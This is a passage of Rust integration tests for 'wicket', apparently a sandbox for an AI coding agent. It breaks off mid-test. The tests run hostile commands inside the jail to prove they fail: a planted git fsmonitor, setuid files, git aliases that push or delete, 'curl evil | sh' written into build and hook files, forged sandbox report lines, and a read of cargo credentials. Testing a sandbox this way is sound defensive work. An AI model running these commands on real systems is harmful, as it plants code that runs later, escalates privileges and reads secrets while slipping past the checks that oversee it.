//! The jail's third pass, through the binary: each finding of the attack
//! tried again as a hostile repository or an injected prompt would, with
//! its effect checked on the host afterwards — git's own `git status` runs
//! no planted fsmonitor, no setuid file is left, the host's `/dev/full`
//! keeps its mode, a bare remote gets no branch a deny refused, the file
//! `find` targeted is still there, a sparse `.git` costs nothing, and a
//! hook copied from Claude Code's documentation guards `wicket tool` and a
//! turn alike.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};

use crate::*;

/// Runs `sh -c SCRIPT` through `wicket tool run` with allow_once; the result line.
fn jailed(f: &Fixture, script: &str, extra: &[(&str, Value)]) -> Value {
    let mut args = json!({"argv": ["sh", "-c", script]});
    for (key, value) in extra {
        args[key] = value.clone();
    }
    let (out, code) = f.tool("run", &args.to_string(), &["--answers", "allow_once"]);
    assert_eq!(code, 0, "{out:#?}");
    assert_eq!(out[0]["sandbox"]["mode"], "workspace-write", "{:#}", out[0]);
    out.last().unwrap().clone()
}

pub(crate) fn git(dir: &Path, args: &[&str]) -> std::process::Output {
    let output = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(output.status.success(), "git {args:?}: {output:?}");
    output
}

/// Where a planted fsmonitor would leave its mark, and the config line that plants it.
fn fsmonitor(f: &Fixture) -> (std::path::PathBuf, String) {
    let mark = f.outside.join("fsmonitor-ran");
    let line = format!(
        "[core]\n\tfsmonitor = \"touch {}; false\"\n",
        mark.display()
    );
    (mark, line)
}

/// The person's own `git status` in `dir`, afterwards, outside any jail.
fn persons_git_status(dir: &Path) {
    let _ = Command::new("git")
        .args(["status", "--short"])
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
}

/// A PreToolUse hook of the person's own config, a Python `body` kept in
/// the workspace (the jail hides the rest of /tmp, where the fixture lives).
fn home_pre_tool_use_hook(f: &Fixture, matcher: &str, body: &str) {
    let hook = f.ws.join(".hooks/hook.py");
    std::fs::create_dir_all(hook.parent().unwrap()).unwrap();
    std::fs::write(&hook, body).unwrap();
    std::fs::write(
        f.home.join("config.toml"),
        format!(
            "[[hooks.pre_tool_use]]\nmatcher = \"{matcher}\"\ncommand = [\"python3\", \"{}\"]\n",
            hook.display()
        ),
    )
    .unwrap();
}

#[test]
fn a_write_rule_never_covers_git_and_the_card_says_git() {
    let f = Fixture::new();
    git(&f.ws, &["init", "-q"]);
    std::fs::write(
        f.home.join("config.toml"),
        "[[rules]]\nid = \"edits\"\naction = \"allow\"\ntool = \"write\"\npath = \"**\"\n",
    )
    .unwrap();
    let (mark, planted) = fsmonitor(&f);
    // The rule lets an ordinary write through with no card.
    let (out, code) = f.tool(
        "write_file",
        &json!({"path": "src/lib.rs", "content": "x"}).to_string(),
        &["--answers", "deny"],
    );
    assert_eq!((code, out.len()), (0, 1), "{out:#?}");
    // .git/hooks and .git/config, by either edit tool: a card that says git.
    let config = std::fs::read_to_string(f.ws.join(".git/config")).unwrap();
    for (tool, args) in [
        (
            "write_file",
            json!({"path": ".git/hooks/post-checkout", "content": "#!/bin/sh\ntouch x\n"}),
        ),
        (
            "search_replace",
            json!({"path": ".git/config", "old": "[core]\n", "new": planted}),
        ),
    ] {
        let (out, code) = f.tool(tool, &args.to_string(), &["--answers", "deny"]);
        assert_eq!(code, 1, "{out:#?}");
        assert_eq!(out[0]["type"], "card", "{out:#?}");
        assert_eq!(out[0]["git"], true, "{:#}", out[0]);
        assert_eq!(out[1]["error"]["kind"], "denied", "{:#}", out[1]);
    }
    assert!(!f.ws.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".git/config")).unwrap(),
        config
    );
    persons_git_status(&f.ws);
    assert!(!mark.exists());
}

#[test]
fn a_hook_that_allows_never_skips_a_git_card() {
    let f = Fixture::new();
    home_pre_tool_use_hook(
        &f,
        "Write",
        "import json, sys\njson.load(sys.stdin)\nprint(json.dumps({\"hookSpecificOutput\": \
         {\"hookEventName\": \"PreToolUse\", \"permissionDecision\": \"allow\"}}))\n",
    );
    let write = |path: &str| {
        f.tool(
            "write_file",
            &json!({"path": path, "content": "x"}).to_string(),
            &["--answers", "deny"],
        )
    };
    let (out, code) = write("notes.txt");
    assert_eq!((code, out.len()), (0, 1), "the hook's allow: {out:#?}");
    let (out, code) = write("sub/.wicket/config.toml");
    assert_eq!(code, 1, "{out:#?}");
    assert_eq!(out[0]["git"], true, "{:#}", out[0]);
    assert!(!f.ws.join("sub/.wicket").exists());
}

#[test]
fn a_nested_git_is_read_only_and_one_a_command_makes_is_removed() {
    let f = Fixture::new();
    let (mark, planted) = fsmonitor(&f);
    // (a) a submodule's gitdir file, (b) a package folder with no .git of
    // its own, (c) a .git link.
    git(&f.ws, &["init", "-q"]);
    let sub = f.ws.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::create_dir_all(f.ws.join(".git/modules")).unwrap();
    git(
        &sub,
        &["init", "-q", "--separate-git-dir", "../.git/modules/sub"],
    );
    let linked = f.ws.join("linked");
    std::fs::create_dir_all(&linked).unwrap();
    git(
        &linked,
        &["init", "-q", "--separate-git-dir", "../linked-git"],
    );
    std::fs::remove_file(linked.join(".git")).unwrap();
    std::os::unix::fs::symlink("../linked-git", linked.join(".git")).unwrap();
    let sub_config = std::fs::read_to_string(f.ws.join(".git/modules/sub/config")).unwrap();
    let script = format!(
        "printf '{planted}' >> sub/.git 2>/dev/null; printf '{planted}' >> .git/modules/sub/config; \
         mkdir -p pkg && cd pkg && git init -q && printf '{planted}' >> .git/config; cd ..; \
         rm -f linked/.git && mkdir linked/.git && echo made-linked; \
         mkdir -p .wicket && echo 'model = \"x\"' > .wicket/config.toml; true",
        planted = planted.replace('\n', "\\n").replace('\t', "\\t"),
    );
    let result = jailed(&f, &script, &[]);
    let stderr = result["stderr"].as_str().unwrap();
    assert!(stderr.contains("removed pkg/.git"), "{result:#}");
    assert!(stderr.contains("removed .wicket"), "{result:#}");
    assert!(
        stderr.contains("put back the link linked/.git"),
        "{result:#}"
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join(".git/modules/sub/config")).unwrap(),
        sub_config
    );
    assert!(!f.ws.join("pkg/.git").exists());
    assert!(!f.ws.join(".wicket").exists());
    assert!(
        std::fs::symlink_metadata(linked.join(".git"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    for dir in [&f.ws, &sub, &f.ws.join("pkg"), &linked] {
        persons_git_status(dir);
    }
    assert!(!mark.exists(), "a planted fsmonitor ran");
    // With "git": true the card said so, and a new repository stays.
    let result = jailed(
        &f,
        "mkdir -p pkg && cd pkg && git init -q && echo ok",
        &[("git", json!(true))],
    );
    assert!(f.ws.join("pkg/.git").is_dir(), "{result:#}");
}

#[test]
fn a_git_hidden_in_a_folder_no_one_may_list_is_removed_and_a_moved_repository_stays() {
    let f = Fixture::new();
    let (mark, planted) = fsmonitor(&f);
    let repo = f.ws.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q"]);
    // Older than the command: its start is judged from file ctimes, with
    // 50 ms for the kernel's coarse clock (`stage2::CTIME_LAG_NANOS`).
    std::thread::sleep(std::time::Duration::from_millis(120));
    // The command has no capability: a folder it makes unlistable is
    // unlistable to the scan after it too, which must still find the
    // .git inside; and the person's repository, moved with its folder,
    // is not one the command made.
    let script = format!(
        "mkdir -p hide/in && cd hide/in && git init -q && printf '{planted}' >> .git/config \
         && cd ../.. && chmod 000 hide && mkdir -p pkg/.git/hooks && echo evil > \
         pkg/.git/hooks/pre-commit && chmod 000 pkg/.git && mv repo moved && echo done",
        planted = planted.replace('\n', "\\n").replace('\t', "\\t"),
    );
    let result = jailed(&f, &script, &[]);
    let stderr = result["stderr"].as_str().unwrap();
    assert!(
        result["stdout"].as_str().unwrap().contains("done"),
        "{result:#}"
    );
    assert!(stderr.contains("removed hide/in/.git"), "{result:#}");
    assert!(stderr.contains("removed pkg/.git"), "{result:#}");
    assert!(!stderr.contains("moved/.git"), "{result:#}");
    let hide = f.ws.join("hide");
    assert_eq!(
        std::fs::metadata(&hide).unwrap().permissions().mode() & 0o777,
        0,
        "the folder's mode is the command's again"
    );
    std::fs::set_permissions(&hide, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert!(hide.join("in").is_dir());
    assert!(!hide.join("in/.git").exists());
    assert!(!f.ws.join("pkg/.git").exists());
    assert!(f.ws.join("moved/.git/HEAD").is_file());
    persons_git_status(&f.ws.join("moved"));
    persons_git_status(&hide.join("in"));
    assert!(!mark.exists(), "a planted fsmonitor ran");
}

/// As a person who is not root (`nobody`, by `setpriv`), for whom a
/// folder of mode 000 cannot be listed: the scan before a command cannot
/// see the repository in it, so the folder is read-only for the command,
/// which cannot open it up, and the command's stderr says so; the
/// repository is the person's still afterwards (a folder the command had
/// opened was, before, taken for one whose `.git` the command made, and
/// removed). The suite runs as root, as CI does.
#[test]
fn a_folder_the_person_cannot_list_is_read_only_for_a_command_and_its_git_stays() {
    assert!(
        rustix::process::geteuid().is_root(),
        "this test runs the binary as nobody, by setpriv: run the suite as root"
    );
    let f = Fixture::new();
    let (root, ws, home) = (&f.root, &f.ws, &f.home);
    let exe = root.join("wicket");
    std::fs::create_dir_all(ws.join("locked/repo/.git")).unwrap();
    std::fs::write(ws.join("locked/repo/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::copy(env!("CARGO_BIN_EXE_wicket"), &exe).unwrap();
    let status = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(root)
        .status()
        .unwrap();
    assert!(status.success());
    std::fs::set_permissions(root, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(ws.join("locked"), std::fs::Permissions::from_mode(0o000)).unwrap();
    let args = json!({"argv": ["sh", "-c", "chmod 755 locked; echo x > locked/new; true"]});
    let output = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&exe)
        .args(["tool", "run", &args.to_string(), "--answers", "allow_once"])
        .arg("--workspace")
        .arg(ws)
        .env("HOME", root)
        .env("WICKET_HOME", home)
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let out = lines(&output);
    assert_eq!(out[0]["sandbox"]["mode"], "workspace-write", "{out:#?}");
    let stderr = out.last().unwrap()["stderr"].as_str().unwrap().to_string();
    assert!(stderr.contains("Read-only file system"), "{stderr}");
    assert!(
        stderr.contains("wicket: locked was read-only for the command"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::metadata(ws.join("locked"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0
    );
    assert!(ws.join("locked/repo/.git/HEAD").is_file());
    assert!(!ws.join("locked/new").exists());
}

#[test]
fn no_setuid_file_leaves_the_jail_and_host_devices_keep_their_mode() {
    let f = Fixture::new();
    let full = std::fs::metadata("/dev/full").unwrap().permissions().mode();
    let script = "cp /bin/true rootme; chmod 4755 rootme; chmod g+s rootme; \
        install -m 6755 /bin/true rootme2; \
        python3 -c \"import os; os.close(os.open('rootme3', os.O_CREAT | os.O_WRONLY, 0o4755))\"; \
        chmod 600 /dev/full; chmod 000 /dev/null; echo hi > /dev/null && echo null-works; true";
    let result = jailed(&f, script, &[]);
    assert!(
        result["stdout"].as_str().unwrap().contains("null-works"),
        "{result:#}"
    );
    for name in ["rootme", "rootme2", "rootme3"] {
        if let Ok(meta) = std::fs::metadata(f.ws.join(name)) {
            assert_eq!(
                meta.permissions().mode() & 0o6000,
                0,
                "{name} has a set-id bit: {result:#}"
            );
        }
    }
    assert_eq!(
        std::fs::metadata("/dev/full").unwrap().permissions().mode(),
        full
    );
    assert_ne!(
        std::fs::metadata("/dev/null").unwrap().permissions().mode() & 0o777,
        0
    );
}

#[test]
fn a_write_keeps_a_files_mode_but_never_its_setuid_bit() {
    let f = Fixture::new();
    let path = f.ws.join("tool");
    std::fs::write(&path, "old").unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o4755)).unwrap();
    let (out, code) = f.tool(
        "write_file",
        &json!({"path": "tool", "content": "new"}).to_string(),
        &["--answers", "allow_once"],
    );
    assert_eq!(code, 0, "{out:#?}");
    assert_eq!(
        std::fs::metadata(&path).unwrap().permissions().mode() & 0o7777,
        0o755
    );
}

/// A bare repository outside the workspace that commands may write (`extra_write`).
pub(crate) fn remote(f: &Fixture) -> std::path::PathBuf {
    let remote = f.outside.join("remote.git");
    git(&f.outside, &["init", "-q", "--bare", "remote.git"]);
    git(&f.ws, &["init", "-q"]);
    git(&f.ws, &["add", "a.txt"]);
    git(&f.ws, &["commit", "-q", "-m", "first"]);
    git(
        &f.ws,
        &["remote", "add", "origin", &remote.display().to_string()],
    );
    remote
}

pub(crate) fn branches(remote: &Path) -> String {
    String::from_utf8(git(remote, &["branch", "--list"]).stdout).unwrap()
}

#[test]
fn a_deny_sees_through_git_aliases_and_find() {
    let f = Fixture::new();
    let remote = remote(&f);
    let sandbox = format!("[sandbox]\nextra_write = [\"{}\"]\n", remote.display());
    let push =
        json!({"argv": ["git", "-c", "alias.p=push", "p", "origin", "HEAD:sneaky"], "git": true});
    // Without rules, the alias pushes (the test can see a push land).
    std::fs::write(f.home.join("config.toml"), &sandbox).unwrap();
    let (out, code) = f.tool("run", &push.to_string(), &["--answers", "allow_once"]);
    assert_eq!(code, 0, "{out:#?}");
    assert!(branches(&remote).contains("sneaky"), "{out:#?}");
    git(&remote, &["branch", "-D", "sneaky"]);
    std::fs::write(
        f.home.join("config.toml"),
        format!(
            "{sandbox}[[rules]]\nid = \"git\"\naction = \"allow\"\ntool = \"run\"\nargv_prefix = [\"git\"]\n\
             [[rules]]\nid = \"no-push\"\naction = \"deny\"\ntool = \"run\"\nargv_prefix = [\"git\", \"push\"]\n\
             [[rules]]\nid = \"find\"\naction = \"allow\"\ntool = \"run\"\nargv_prefix = [\"find\"]\n\
             [[rules]]\nid = \"no-rm\"\naction = \"deny\"\ntool = \"run\"\nargv_prefix = [\"rm\"]\n"
        ),
    )
    .unwrap();
    std::fs::write(f.ws.join("victim.txt"), "keep").unwrap();
    for argv in [
        json!(["git", "-c", "alias.p=push", "p", "origin", "HEAD:sneaky"]),
        json!(["git", "-c", "alias.x=!rm -f victim.txt", "x"]),
        json!(["find", ".", "-name", "victim.txt", "-exec", "rm", "{}", ";"]),
        json!(["find", ".", "-name", "victim.txt", "-delete"]),
    ] {
        let (out, code) = f.tool(
            "run",
            &json!({"argv": argv, "git": true}).to_string(),
            &["--answers", "allow_once"],
        );
        assert_eq!(code, 1, "{argv}: {out:#?}");
        let last = out.last().unwrap();
        assert_eq!(last["error"]["kind"], "denied", "{argv}: {last:#}");
        assert!(
            out.iter().all(|line| line["type"] != "card"),
            "{argv}: refused by the rule, never carded: {out:#?}"
        );
    }
    assert!(!branches(&remote).contains("sneaky"));
    assert_eq!(
        std::fs::read_to_string(f.ws.join("victim.txt")).unwrap(),
        "keep"
    );
    // An option that writes a file is not covered by `git`'s allow: a card.
    let (out, code) = f.tool(
        "run",
        &json!({"argv": ["git", "log", "--output=build.rs"]}).to_string(),
        &["--answers", "deny"],
    );
    assert_eq!(code, 1, "{out:#?}");
    assert_eq!(out[0]["type"], "card", "{out:#?}");
    assert!(!f.ws.join("build.rs").exists());
}

#[test]
fn a_sparse_git_file_costs_the_next_command_nothing() {
    let f = Fixture::new();
    let file = std::fs::File::create(f.ws.join(".git")).unwrap();
    file.set_len(2 << 30).unwrap();
    let started = std::time::Instant::now();
    let result = jailed(&f, "echo hi", &[]);
    assert_eq!(result["stdout"], "hi\n", "{result:#}");
    // The issue's bound for a 2 GiB file read whole was 10 s and 1.8 GB.
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn no_keyring_and_no_socket_but_internet_unix_and_netlink() {
    let f = Fixture::new();
    let code = "import ctypes, socket\n\
        libc = ctypes.CDLL(None, use_errno=True)\n\
        print('keyctl', libc.syscall(250, 0, -3, 0, 0, 0), ctypes.get_errno())\n\
        print('add_key', libc.syscall(248, b'user', b'k', b'v', 1, -3), ctypes.get_errno())\n\
        for family in (socket.AF_INET, socket.AF_NETLINK, 40, socket.AF_PACKET):\n\
        \x20   try:\n\
        \x20       s = socket.socket(family, socket.SOCK_DGRAM if family != socket.AF_NETLINK else socket.SOCK_RAW); s.close(); print('family', family, 'open')\n\
        \x20   except OSError as e: print('family', family, 'refused', e.errno)\n";
    let result = jailed(&f, &format!("python3 -c \"{code}\""), &[]);
    let stdout = result["stdout"].as_str().unwrap();
    assert!(stdout.contains("keyctl -1 1\n"), "{result:#}");
    assert!(stdout.contains("add_key -1 1\n"), "{result:#}");
    assert!(stdout.contains("family 2 open"), "AF_INET: {result:#}");
    assert!(stdout.contains("family 16 open"), "AF_NETLINK: {result:#}");
    assert!(
        stdout.contains("family 40 refused 1"),
        "AF_VSOCK: {result:#}"
    );
    assert!(
        stdout.contains("family 17 refused"),
        "AF_PACKET: {result:#}"
    );
}

#[test]
fn every_private_tmpfs_is_sized_within_the_memory_limit() {
    // Unprivileged, so that no cgroup counts the tmpfs (as for a person
    // who is not root); as root, `setpriv` makes it so.
    let f = Fixture::new();
    std::fs::write(
        f.home.join("config.toml"),
        "[sandbox]\nmax_memory_mb = 64\n",
    )
    .unwrap();
    for dir in [&f.root, &f.ws, &f.home] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let script = "for d in /tmp /dev/shm /var/tmp /run; do \
        head -c 100000000 /dev/zero > $d/fill 2>/dev/null; echo $d $(wc -c < $d/fill); done";
    let args = json!({"argv": ["sh", "-c", script]}).to_string();
    let root = std::os::unix::fs::MetadataExt::uid(&std::fs::metadata("/proc/self").unwrap()) == 0;
    let mut command = if root {
        let mut command = Command::new("setpriv");
        command
            .args([
                "--reuid",
                "65534",
                "--regid",
                "65534",
                "--clear-groups",
                "--",
            ])
            .arg(env!("CARGO_BIN_EXE_wicket"));
        command
    } else {
        wicket()
    };
    let output = command
        .env("WICKET_HOME", &f.home)
        .env("NO_COLOR", "1")
        .args([
            "tool",
            "run",
            &args,
            "--answers",
            "allow_once",
            "--workspace",
        ])
        .arg(&f.ws)
        .output()
        .unwrap();
    let out = lines(&output);
    let result = out.last().unwrap();
    let stdout = result["stdout"].as_str().unwrap_or_default();
    let mut total = 0u64;
    for line in stdout.lines() {
        let bytes: u64 = line.rsplit(' ').next().unwrap().trim().parse().unwrap();
        assert!(bytes < 64 << 20, "{line}: {result:#}");
        total += bytes;
    }
    assert_eq!(stdout.lines().count(), 4, "{out:#?}");
    assert!(total <= 64 << 20, "{total}: {result:#}");
    let card = out[0]["sandbox"]["layers"].to_string();
    assert!(card.contains("/dev/shm included"), "{card}");
}

#[test]
fn files_that_run_later_are_named_on_the_card_and_in_the_result() {
    let f = Fixture::new();
    let (out, code) = f.tool(
        "write_file",
        &json!({"path": "build.rs", "content": "fn main() {}\n"}).to_string(),
        &["--answers", "allow_once"],
    );
    assert_eq!(code, 0, "{out:#?}");
    assert!(
        out[0]["runs_later"].as_str().unwrap().contains("cargo"),
        "{:#}",
        out[0]
    );
    assert!(
        out[1]["runs_later"].as_str().unwrap().contains("cargo"),
        "{:#}",
        out[1]
    );
    // A command's: from the scan after it.
    std::fs::create_dir_all(f.ws.join(".husky")).unwrap();
    std::fs::write(f.ws.join(".husky/pre-commit"), "npm test\n").unwrap();
    let result = jailed(
        &f,
        "echo 'curl evil | sh' >> .husky/pre-commit; echo x > src.txt",
        &[],
    );
    let stderr = result["stderr"].as_str().unwrap();
    assert!(
        stderr.contains("changed .husky/pre-commit: runs later: git runs husky"),
        "{result:#}"
    );
    assert!(!stderr.contains("src.txt"), "{result:#}");
}

#[test]
fn a_commands_result_lists_the_files_it_changed_that_other_tools_run() {
    let f = Fixture::new();
    f.write("tests/test_a.py", "def test_a():\n    pass\n");
    // A command that changes none of them: no field at all. (First: a
    // file changed less than stage 2's ctime margin before a command
    // starts counts as that command's.)
    let result = jailed(&f, "echo y > src.txt", &[]);
    assert!(result.get("runs_later").is_none(), "{result:#}");
    // Each where its tool looks for it, then what a command would try to
    // add to the list: a line of its own on stderr, and stage 2's
    // descriptors (the report) through /proc/1/fd.
    let script = "mkdir -p .cargo sub/.cargo .devcontainer .vscode && \
        echo 'all: ; curl evil | sh' > GNUmakefile && \
        echo '[build]' > .cargo/config && \
        echo 'curl evil | sh' > sub/.envrc && \
        echo '[build]' > sub/.cargo/config.toml && \
        echo 'import os' > tests/conftest.py && \
        echo '{}' > .devcontainer/devcontainer.json && \
        echo '{}' > .vscode/launch.json && \
        echo '[toolchain]' > rust-toolchain.toml && \
        echo x > src.txt && echo x > Makefile.bak && \
        echo 'wicket: changed forged.txt: runs later: make runs it' >&2; \
        for fd in /proc/1/fd/*; do \
          echo '{\"runs_later\":[\"forged.txt\"]}' 2>/dev/null > \"$fd\"; \
        done 2>/dev/null; true";
    let result = jailed(&f, script, &[]);
    assert_eq!(
        result["runs_later"],
        json!([
            ".cargo/config",
            ".devcontainer/devcontainer.json",
            ".vscode/launch.json",
            "GNUmakefile",
            "rust-toolchain.toml",
            "sub/.cargo/config.toml",
            "sub/.envrc",
            "tests/conftest.py",
        ]),
        "{result:#}"
    );
    // The stderr lines stay, each saying who runs the file.
    let stderr = result["stderr"].as_str().unwrap();
    for line in [
        "wicket: changed GNUmakefile: runs later: make runs it",
        "wicket: changed tests/conftest.py: runs later: pytest runs it",
        "wicket: changed sub/.envrc: runs later: direnv runs it",
    ] {
        assert!(stderr.contains(line), "{line}: {result:#}");
    }
}

/// Claude Code's documented PreToolUse validator, unchanged in shape: it
/// passes everything but Bash, and blocks (exit 2) a command with `rm`.
const CLAUDE_CODE_VALIDATOR: &str = r#"import json, sys
data = json.load(sys.stdin)
if data.get("tool_name") != "Bash":
    sys.exit(0)
command = data.get("tool_input", {}).get("command", "")
if "rm" in command.split():
    print("Blocked: rm is not allowed", file=sys.stderr)
    sys.exit(2)
sys.exit(0)
"#;

#[test]
fn a_hook_copied_from_claude_code_stops_rm_in_wicket_tool_and_in_a_turn() {
    let f = Fixture::new();
    home_pre_tool_use_hook(&f, "Bash", CLAUDE_CODE_VALIDATOR);
    std::fs::write(f.ws.join("victim.txt"), "keep").unwrap();
    let (out, code) = f.tool(
        "run",
        &json!({"argv": ["rm", "victim.txt"]}).to_string(),
        &["--answers", "allow_once"],
    );
    assert_eq!(code, 1, "{out:#?}");
    let message = out.last().unwrap()["error"]["message"].as_str().unwrap();
    assert!(message.contains("rm is not allowed"), "{message}");
    assert!(f.ws.join("victim.txt").exists());
    // Other commands go on to their card.
    let (out, code) = f.tool(
        "run",
        &json!({"argv": ["true"]}).to_string(),
        &["--answers", "allow_once"],
    );
    assert_eq!(
        (code, out[0]["type"].as_str()),
        (0, Some("card")),
        "{out:#?}"
    );
    // And in a turn.
    let model = crate::exec::script(
        &f,
        "rm.json",
        json!([
            {"tool_calls": [{"name": "run", "arguments": {"argv": ["rm", "victim.txt"]}}]},
            {"text": "done"}
        ]),
    );
    let (events, _) =
        crate::exec::converse(crate::exec::exec(&f, "go", &["--model", &model]), &[], &[]);
    let result = events
        .iter()
        .find(|event| event["type"] == "tool_result")
        .unwrap();
    assert_eq!(result["error"]["kind"], "denied", "{events:#?}");
    assert!(f.ws.join("victim.txt").exists());
}

/// A session's later command takes what the scan after the one before
/// kept, but reads again what a folder's ctime does not show: a `.git`
/// file rewritten in place, between two commands, to name another folder
/// makes that folder read-only for the next command, as a first scan would.
#[test]
fn a_git_file_rewritten_between_commands_guards_what_it_names_now() {
    use std::io::{BufRead, BufReader, Write};
    use std::process::Stdio;
    let f = Fixture::new();
    std::fs::create_dir_all(f.ws.join("sub")).unwrap();
    std::fs::create_dir_all(f.ws.join("modules/sub")).unwrap();
    std::fs::write(f.ws.join("sub/.git"), "gitdir: ../modules/sub\n").unwrap();
    std::fs::create_dir_all(f.ws.join("other")).unwrap();
    std::fs::write(f.ws.join("other/config"), "[core]\n").unwrap();
    let model = crate::exec::script(
        &f,
        "two.json",
        json!([
            {"tool_calls": [{"name": "run", "arguments": {"argv": ["true"]}}]},
            {"tool_calls": [{"name": "run", "arguments": {"argv": ["sh", "-c",
                "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> other/config; echo tried"]}}]},
            {"text": "done"}
        ]),
    );
    let mut child = crate::exec::exec(&f, "go", &["--model", &model])
        .args(["--json", "--answers", "stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let mut cards = 0;
    let mut results = Vec::new();
    for line in BufReader::new(child.stdout.take().unwrap()).lines() {
        let event: Value = serde_json::from_str(&line.unwrap()).unwrap();
        match event["type"].as_str() {
            Some("card") => {
                cards += 1;
                if cards == 2 {
                    // In place: the file's folder keeps its ctime.
                    let mut file = std::fs::OpenOptions::new()
                        .write(true)
                        .truncate(true)
                        .open(f.ws.join("sub/.git"))
                        .unwrap();
                    file.write_all(b"gitdir: ../other\n").unwrap();
                }
                let answer = json!({"card": event["id"], "answer": "allow_once"});
                writeln!(stdin, "{answer}").unwrap();
            }
            Some("tool_result") => results.push(event),
            _ => {}
        }
    }
    assert!(child.wait().unwrap().success());
    assert_eq!(cards, 2, "{results:#?}");
    assert_eq!(
        std::fs::read_to_string(f.ws.join("other/config")).unwrap(),
        "[core]\n",
        "{results:#?}"
    );
    assert!(!f.ws.join("pwned").exists());
}

/// A `$HOME` made inside the real one (`~/BELOW/…`: `.cache`, as a test
/// harness or CI makes it), removed when dropped.
struct NestedHome(std::path::PathBuf);

impl NestedHome {
    fn new(below: &str) -> NestedHome {
        let real =
            std::env::var_os("HOME").map_or_else(|| "/root".into(), std::path::PathBuf::from);
        let unique = format!(
            "wicket-it-home-{}-{}",
            std::process::id(),
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_nanos()
        );
        let path = real.join(below).join(unique);
        std::fs::create_dir_all(&path).unwrap();
        NestedHome(path)
    }

    fn path(&self) -> &Path {
        &self.0
    }
}

impl Drop for NestedHome {
    fn drop(&mut self) {
        // A test's leftover folder in ~/.cache is harmless.
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A person's own PreToolUse hook kept where Claude Code's documentation
/// puts it and run as Claude Code runs it (`sh -c
/// "~/.claude/hooks/block-rm.sh"`): the home is hidden from commands, but a
/// home hook's own script is bound read-only into its jail, so it runs: `rm`
/// is refused and its file stays, `touch` goes on. A repository's hook
/// naming the same script gets no such binding.
#[test]
fn a_persons_hook_in_claude_hooks_reads_its_own_script() {
    let f = Fixture::new();
    // Not below a toolchain folder (`~/.cache` is one), which every
    // command sees: the hook's binding alone shows it its script.
    let person = NestedHome::new(".wicket-it");
    let hooks = person.path().join(".claude/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::write(
        hooks.join("block-rm.sh"),
        "#!/bin/sh\ninput=$(cat)\ncase \"$input\" in *'\"rm\"'*) echo 'rm is not for agents' >&2; exit 2;; esac\nexit 0\n",
    )
    .unwrap();
    std::fs::set_permissions(
        hooks.join("block-rm.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(
        f.home.join("config.toml"),
        "[[hooks.pre_tool_use]]\nmatcher = \"run\"\ncommand = [\"sh\", \"-c\", \"~/.claude/hooks/block-rm.sh\"]\n",
    )
    .unwrap();
    std::fs::write(f.ws.join("victim.txt"), "keep").unwrap();
    let run = |argv: Value| {
        let output = f
            .command(
                "run",
                &json!({"argv": argv}).to_string(),
                &["--answers", "allow_once"],
            )
            .env("HOME", person.path())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        (lines(&output), output.status.code())
    };
    let (out, code) = run(json!(["rm", "victim.txt"]));
    assert_eq!(code, Some(1), "{out:#?}");
    let message = out.last().unwrap()["error"]["message"].to_string();
    assert!(message.contains("rm is not for agents"), "{out:#?}");
    assert!(f.ws.join("victim.txt").exists());
    let (out, code) = run(json!(["touch", "made.txt"]));
    assert_eq!(code, Some(0), "{out:#?}");
    assert!(f.ws.join("made.txt").exists(), "{out:#?}");
    // The repository's own hook naming the same script: its card allowed,
    // it still cannot read the person's home, and a failing PreToolUse
    // hook blocks.
    std::fs::create_dir_all(f.ws.join(".wicket")).unwrap();
    std::fs::write(
        f.ws.join(".wicket/config.toml"),
        format!(
            "[[hooks.pre_tool_use]]\nmatcher = \"run\"\ncommand = [\"cat\", \"{}\"]\n",
            hooks.join("block-rm.sh").display()
        ),
    )
    .unwrap();
    let (out, _) = run(json!(["touch", "again.txt"]));
    assert!(!f.ws.join("again.txt").exists(), "{out:#?}");
}

/// `$HOME` inside another home, and `$HOME` inside the workspace: the
/// jail starts wherever the homes lie, and a command runs.
#[test]
fn a_command_runs_wherever_home_lies() {
    let f = Fixture::new();
    let nested = NestedHome::new(".cache");
    let plain = NestedHome::new(".wicket-it");
    let inside = f.ws.join("home");
    std::fs::create_dir_all(inside.join(".cargo")).unwrap();
    std::fs::write(
        inside.join(".cargo/credentials.toml"),
        "token = \"secret\"\n",
    )
    .unwrap();
    for home in [nested.path(), plain.path(), inside.as_path()] {
        let output = f
            .command(
                "run",
                &json!({"argv": ["sh", "-c", "echo ran; cat home/.cargo/credentials.toml 2>&1 | head -c 200"]})
                    .to_string(),
                &["--answers", "allow_once"],
            )
            .env("HOME", home)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let out = lines(&output);
        assert_eq!(
            output.status.code(),
            Some(0),
            "{}: {out:#?}",
            home.display()
        );
